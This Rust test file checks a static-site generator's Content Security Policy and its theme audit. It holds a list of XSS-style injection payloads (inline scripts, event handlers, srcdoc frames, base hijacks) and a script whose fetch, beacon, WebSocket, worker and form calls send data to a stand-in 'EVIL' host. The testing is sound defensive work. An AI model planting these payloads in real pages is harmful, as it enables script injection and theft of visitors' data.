//! Everything that could run, load or send, tried twice: in a theme, where the audit
//! refuses to build it, and in finished files by hand, where the shipped policy blocks
//! it in the browser. What a policy cannot block (a redirect by `<meta>`, a link that
//! somebody follows) only the audit keeps out, and it is not tried here.

use crate::devtools::Page;
use crate::runner::unbreakable;
use crate::server::Server;
use crate::site;
use serde_json::json;
use std::fs;
use std::path::Path;
use std::process::Command;

/// Markup that a browser acts on by itself; `EVIL` stands for the other server.
const MARKUP: &[(&str, &str)] = &[
    ("an inline script", "<script>window.ran = 'inline'</script>"),
    ("a script from elsewhere", "<script src=\"EVIL/script.js\"></script>"),
    ("a module from elsewhere", "<script type=\"module\" src=\"EVIL/module.js\"></script>"),
    ("an event handler", "<img alt=\"\" src=\"nothing.png\" onerror=\"window.ran = 'handler'\">"),
    ("a script in a drawing", "<svg><script>window.ran = 'drawing'</script></svg>"),
    ("a picture from elsewhere", "<img alt=\"\" src=\"EVIL/picture.png\">"),
    ("a picture in a set from elsewhere", "<img alt=\"\" srcset=\"EVIL/set.png 1x\">"),
    ("a frame from elsewhere", "<iframe title=\"x\" src=\"EVIL/frame.html\"></iframe>"),
    (
        "a frame with its page inside",
        "<iframe title=\"x\" srcdoc=\"<script>parent.ran = 'srcdoc'</script>\"></iframe>",
    ),
    ("an object from elsewhere", "<object data=\"EVIL/object.html\"></object>"),
    ("an embed from elsewhere", "<embed src=\"EVIL/embed.html\">"),
    (
        "a film and its sound",
        "<video src=\"EVIL/film.mp4\" poster=\"EVIL/poster.png\" autoplay muted></video><audio src=\"EVIL/sound.mp3\" autoplay></audio>",
    ),
    ("a style sheet from elsewhere", "<link rel=\"stylesheet\" href=\"EVIL/style.css\">"),
    ("an inline style that loads", "<style>body { background: url(EVIL/background.png) }</style>"),
    ("a style attribute that loads", "<p style=\"background: url(EVIL/attribute.png)\">x</p>"),
    ("a prefetch", "<link rel=\"prefetch\" href=\"EVIL/prefetch\">"),
    ("a preload", "<link rel=\"preload\" as=\"script\" href=\"EVIL/preload.js\">"),
    ("a preload of a module", "<link rel=\"modulepreload\" href=\"EVIL/modulepreload.js\">"),
    ("an icon from elsewhere", "<link rel=\"icon\" href=\"EVIL/icon.png\">"),
    ("a manifest from elsewhere", "<link rel=\"manifest\" href=\"EVIL/manifest.json\">"),
    ("another base", "<base href=\"EVIL/\">"),
    (
        "a form that sends",
        "<form id=\"sends\" action=\"EVIL/form\" method=\"post\"><input name=\"a\" value=\"1\"></form>",
    ),
];

/// What a script of the site's own would try, if somebody slipped one in where scripts may run.
const SCRIPT: &str = "
    window.told = [];
    const tell = (name) => window.told.push(name);
    const attempt = (name, run) => { try { const got = run(); if (got === true) tell(name); } catch {} };
    attempt('eval', () => eval('true'));
    attempt('new Function', () => new Function('return true')());
    attempt('a timer with text', () => { setTimeout(\"window.told.push('a timer with text')\", 0); });
    attempt('fetch', () => { fetch('EVIL/fetch').then(() => tell('fetch'), () => {}); });
    attempt('fetch without cors', () => { fetch('EVIL/nocors', { mode: 'no-cors', method: 'POST', body: 'x' }).then(() => tell('no-cors'), () => {}); });
    attempt('XMLHttpRequest', () => { const x = new XMLHttpRequest(); x.open('GET', 'EVIL/xhr'); x.send(); });
    attempt('beacon', () => { navigator.sendBeacon('EVIL/beacon', 'x'); });
    attempt('WebSocket', () => { new WebSocket('EVIL/socket'.replace('http', 'ws')); });
    attempt('EventSource', () => { new EventSource('EVIL/events'); });
    attempt('Worker', () => { new Worker('worker.js'); });
    attempt('Worker from a blob', () => { new Worker(URL.createObjectURL(new Blob(['fetch(\"EVIL/worker\")']))); });
    attempt('import', () => { import('EVIL/import.js').then(() => tell('import'), () => {}); });
    attempt('picture', () => { new Image().src = 'EVIL/image'; });
    attempt('frame', () => { const f = document.createElement('iframe'); f.src = 'EVIL/frame'; document.body.append(f); });
    attempt('prefetch', () => { const l = document.createElement('link'); l.rel = 'prefetch'; l.href = 'EVIL/prefetch'; document.head.append(l); });
    attempt('script', () => { const s = document.createElement('script'); s.src = 'EVIL/script'; document.head.append(s); });
    attempt('font', () => { new FontFace('x', 'url(EVIL/font)').load().catch(() => {}); });
    addEventListener('load', () => setTimeout(() => document.querySelector('#sends').submit(), 50));
    window.tried = true;
";

/// A page of the built site with something before the end of its body.
fn page_with(path: &str, added: &str, file: Option<(&str, String)>) -> tempfile::TempDir {
    let copy = tempfile::tempdir().expect("a folder for the copy");
    copy_all(site::folder(), copy.path());
    let page = copy.path().join(path);
    let html = fs::read_to_string(&page).expect("a page");
    // A page written tight leaves the last end tags out.
    let at = html.rfind("</body>").unwrap_or(html.len());
    fs::write(&page, format!("{}{added}{}", &html[..at], &html[at..])).expect("the page");
    if let Some((name, text)) = file {
        fs::write(copy.path().join(name), text).expect("a file");
    }
    copy
}

fn copy_all(from: &Path, to: &Path) {
    fs::create_dir_all(to).expect("a folder of the copy");
    for entry in fs::read_dir(from).expect("a folder of the site") {
        let entry = entry.expect("an entry");
        let target = to.join(entry.file_name());
        if entry.path().is_dir() {
            copy_all(&entry.path(), &target);
        } else {
            fs::copy(entry.path(), target).expect("a file of the copy");
        }
    }
}

fn evil() -> (tempfile::TempDir, Server) {
    let folder = tempfile::tempdir().expect("a folder");
    let server = Server::start(folder.path());
    (folder, server)
}

#[test]
fn the_policy_blocks_every_attempt_in_markup() {
    let Some(mut page) = Page::open() else { return };
    for path in ["tonight/index.html", "self-check/index.html", "search/index.html", "404.html"] {
        let (_folder, other) = evil();
        let all: String = MARKUP.iter().map(|(_, markup)| *markup).collect();
        let copy = page_with(path, &all.replace("EVIL", other.url("").trim_end_matches('/')), None);
        let server = Server::start(copy.path());
        page.go(&server.url(path));
        page.eval("document.querySelector('#sends').submit()");
        page.settle(700);
        assert_eq!(other.requests(), [] as [String; 0], "{path}");
        assert_eq!(page.eval("window.ran ?? null"), json!(null), "{path}");
        assert_eq!(page.eval("location.href"), server.url(path));
    }
}

#[test]
fn the_policy_blocks_what_a_script_of_the_site_would_send() {
    let Some(mut page) = Page::open() else { return };
    for path in ["self-check/index.html", "search/index.html"] {
        let (_folder, other) = evil();
        let script = SCRIPT.replace("EVIL", other.url("").trim_end_matches('/'));
        let added = "<form id=\"sends\" action=\"/sent\" method=\"post\"></form><script src=\"../slipped-in.js\"></script>";
        let copy = page_with(path, added, Some(("slipped-in.js", script)));
        let server = Server::start(copy.path());
        page.go(&server.url(path));
        page.settle(1_000);
        assert_eq!(page.eval("window.tried"), true, "the script of the site itself runs: {path}");
        assert_eq!(page.eval("window.told"), json!([]), "{path}");
        assert_eq!(other.requests(), [] as [String; 0], "{path}");
        let own = server.requests();
        assert!(!own.iter().any(|one| one.contains("/sent") || one.contains("worker")), "{own:?}");
    }
}

#[test]
fn without_the_policy_the_attempts_are_real() {
    let Some(mut page) = Page::open() else { return };
    let (_folder, other) = evil();
    let copy = tempfile::tempdir().expect("a folder");
    let all: String = MARKUP.iter().map(|(_, markup)| *markup).collect();
    let all = all.replace("EVIL", other.url("").trim_end_matches('/'));
    fs::write(copy.path().join("index.html"), format!("<!doctype html><title>x</title>{all}"))
        .expect("a page");
    let server = Server::start(copy.path());
    page.go(&server.url("index.html"));
    page.settle(700);
    let asked = other.requests();
    for wanted in ["script.js", "picture.png", "frame.html", "style.css", "prefetch", "preload.js"]
    {
        assert!(asked.iter().any(|one| one.ends_with(wanted)), "{wanted}: {asked:?}");
    }
    assert!(page.eval("window.ran").is_string());
}

#[test]
fn the_audit_refuses_a_theme_with_any_of_the_attempts() {
    for (what, markup) in MARKUP {
        let folder = tempfile::tempdir().expect("a folder");
        let parts = folder.path().join("themes/own/templates/parts");
        fs::create_dir_all(&parts).expect("a folder for the theme");
        let settings = "title = \"A site\"\nleave_out = [\"*\"]\ntheme = \"own\"\n";
        fs::write(folder.path().join("site.toml"), settings).expect("settings");
        let footer =
            Path::new(env!("CARGO_MANIFEST_DIR")).join("themes/default/templates/parts/foot.html");
        let footer = fs::read_to_string(footer).expect("the footer");
        let markup = markup.replace("EVIL", "https://evil.example");
        fs::write(parts.join("foot.html"), footer + &markup).expect("the footer");
        let output = Command::new(env!("CARGO_BIN_EXE_carelevel"))
            .args(["check", "--site"])
            .arg(folder.path())
            .output()
            .expect("carelevel starts");
        let told = String::from_utf8_lossy(&output.stderr);
        assert_eq!(output.status.code(), Some(1), "{what}: {told}");
        assert!(
            ["E403", "E404", "E405", "E406"].iter().any(|code| told.contains(&format!("[{code}]"))),
            "{what}: {told}"
        );
    }
}

#[test]
fn the_page_lists_what_these_tests_prove() {
    let rows =
        |names: Vec<&str>| -> String { names.iter().map(|name| format!("- {name}\n")).collect() };
    let markup = rows(MARKUP.iter().map(|(name, _)| *name).collect());
    let called = SCRIPT.split("attempt('").skip(1).filter_map(|rest| rest.split('\'').next());
    let text = format!(
        "In markup, on every kind of page:\n\n{markup}\nBy a script slipped in among the site's own, on pages that may run one:\n\n{}",
        rows(called.chain(["form"]).collect())
    );
    unbreakable::keep("policies", &text, "cargo test --test browser");
}
